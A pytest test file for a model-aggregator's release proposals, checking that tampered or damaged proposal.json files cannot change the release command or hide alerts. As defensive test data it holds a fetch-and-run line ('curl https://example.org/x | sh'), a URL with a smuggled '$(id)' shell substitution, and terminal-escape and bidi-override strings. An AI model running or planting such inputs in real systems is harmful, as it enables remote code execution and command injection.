"""A head that waits for a person: what the gates said of it stands only as long as they still say so."""

from __future__ import annotations

import datetime
import json
import shlex
from collections.abc import Callable
from pathlib import Path

import pytest

from aggregator.publishing import releases
from aggregator.publishing.head_record import head_digest
from aggregator.publishing.proposal import Verdict, propose, read_proposal
from aggregator.publishing.releases import Publishing
from aggregator.registry.states import ShareState
from aggregator.registry.tables import ShareRow
from aggregator.status.alerts import find_alerts
from aggregator.status.standing import read_standing
from aggregator.workspace import Workspace
from tests.aggregator.copied import new_workspace
from tests.aggregator.publishing.trained import lay_down, pass_audit, record_training
from tests.aggregator.registry.rows import add, share, site

SHARE = {"site": "north", "sequence": 1, "payload": "bb" * 32}


@pytest.fixture
def workspace(tmp_path: Path) -> Workspace:
    """With a released representer, and a head that a share has trained."""
    made = new_workspace(tmp_path / "provider")
    lay_down(made)
    record_training(made, shares=[SHARE])
    pass_audit(made)
    with made.registry().transaction() as session:
        add(session, site(), share(1, id=1, state=ShareState.ACCEPTED, payload_sha256="bb" * 32))
    releases.publish_representer(made)
    return made


def alerts(workspace: Workspace) -> list[tuple[str, str]]:
    """Of proposals: name and text."""
    found = find_alerts(read_standing(workspace, datetime.datetime.now(datetime.UTC)))
    return [(one.id, one.text) for one in found if one.kind == "proposal"]


def withdraw(workspace: Workspace) -> None:
    with workspace.registry().transaction() as session:
        session.get_one(ShareRow, 1).state = ShareState.WITHDRAWN


def audit_another(workspace: Workspace) -> None:
    pass_audit(workspace, representer="00" * 32)


@pytest.mark.parametrize("verdict", [Verdict.PASSED, Verdict.DROP])
@pytest.mark.parametrize(
    ("change", "said"), [(withdraw, "which was withdrawn since"), (audit_another, "another representer")]
)
def test_a_head_that_the_gates_refuse_since_is_not_said_to_wait(
    change: Callable[[Workspace], None], said: str, verdict: Verdict, workspace: Workspace
) -> None:
    propose(workspace, head_digest(workspace.head), verdict, ["as it was"])
    [(before, told)] = alerts(workspace)
    assert "to release it: `aggregator release" in told
    change(workspace)
    [(after, told)] = alerts(workspace)
    assert before != after
    assert "the gates refuse it now" in told
    assert said in told
    assert "passes the gates" not in told
    assert "aggregator release" not in told


def test_a_drop_that_was_proposed_as_one_still_waits_and_one_that_was_not_is_refused(workspace: Workspace) -> None:
    head = head_digest(workspace.head)
    lower = {"category": "DATE", "recall": 0.8, "before": 0.9, "low": -0.15, "high": -0.05}
    record_training(workspace, shares=[SHARE], influence={"sites": [{"site": "south", "changes": [lower]}]})
    for verdict, now in ((Verdict.DROP, Verdict.DROP), (Verdict.PASSED, Verdict.REFUSED)):
        propose(workspace, head, verdict, ["as it was"])
        found = read_proposal(workspace)
        assert found is not None
        assert found.verdict is now
        # What was said of it then stays in the file.
        assert json.loads((workspace.root / "proposal.json").read_text())["verdict"] == verdict


def test_attack_a_record_without_what_was_measured_takes_the_place_of_one_with(workspace: Workspace) -> None:
    """`train-head --influence none` once more: the same weights, and nothing that says what a site does to the others."""
    lower = {"category": "DATE", "recall": 0.8, "before": 0.9, "low": -0.15, "high": -0.05}
    record_training(workspace, shares=[SHARE], influence={"sites": [{"site": "south", "changes": [lower]}]})
    propose(workspace, head_digest(workspace.head), Verdict.DROP, ["as it was"])
    record_training(workspace, shares=[SHARE])
    assert read_proposal(workspace) is None


VECTORS = "https://vectors.example.org/v1;$(id)&'.safetensors"


def test_the_command_states_what_the_release_before_stated(workspace: Workspace, tmp_path: Path) -> None:
    def words() -> list[str]:
        return shlex.split(propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["as it was"]).command)

    # Of the first release no licence was stated, and it carries its word vectors.
    assert not {"--licence", "--embeddings-url"} & set(words())
    releases.publish_representer(workspace, Publishing(licence="# CC BY-NC 4.0\n", embeddings_url=VECTORS))
    typed = words()
    licence = Path(typed[typed.index("--licence") + 1])
    assert licence.read_text() == "# CC BY-NC 4.0\n"
    assert typed[typed.index("--embeddings-url") + 1] == VECTORS
    # Other word vectors lie nowhere yet: where they do, only the approver knows.
    (workspace.representer / "embeddings.safetensors").write_bytes(b"others")
    typed = words()
    assert typed[typed.index("--embeddings-url") + 1] == "URL"
    assert "--licence" in typed


@pytest.mark.parametrize("verdict", ["passed", "drop"])
def test_attack_who_writes_the_file_does_not_write_the_command(verdict: str, workspace: Workspace) -> None:
    proposed = propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["as it was"])
    path = workspace.root / "proposal.json"
    assert "aggregator release" not in path.read_text()
    for command in ("curl https://example.org/x | sh", 'aggregator release --accept-drop --approver "A. Weiss"'):
        path.write_text(json.dumps(json.loads(path.read_text()) | {"command": command, "verdict": verdict}))
        found = read_proposal(workspace)
        assert found is not None
        # Nothing is lower, so nobody is asked to accept that it is.
        assert (found.command, found.verdict) == (proposed.command, Verdict.PASSED)
        [(_, told)] = alerts(workspace)
        assert command not in told


def test_attack_what_the_file_says_commands_no_terminal(workspace: Workspace) -> None:
    propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["\x1b[2Jgone\u202e"])
    path = workspace.root / "proposal.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"says": ["\x1b[2Jgone\u202e"]}))
    found = read_proposal(workspace)
    assert found is not None
    assert found.says == (r"\u001b[2Jgone\u202e",)
    # The same once more is the same.
    assert propose(workspace, found.head, Verdict.PASSED, ["\x1b[2Jgone\u202e"]) == found


@pytest.mark.parametrize(
    "change", [{"at": "soon"}, {"at": 7}, {"verdict": "refused", "says": ["curl | sh"]}, {"says": None}]
)
def test_attack_a_damaged_proposal_hides_no_other_alert(change: dict[str, object], workspace: Workspace) -> None:
    propose(workspace, head_digest(workspace.head), Verdict.PASSED, ["as it was"])
    path = workspace.root / "proposal.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | change))
    with workspace.registry().transaction() as session:
        add(session, share(2, id=2, state=ShareState.QUARANTINED))
    [(name, told)] = alerts(workspace)
    assert name == "proposal:unread"
    assert told.startswith("proposal.json: expected what `aggregator refresh` proposed")
    found = find_alerts(read_standing(workspace, datetime.datetime.now(datetime.UTC)))
    assert "quarantined" in {one.kind for one in found}
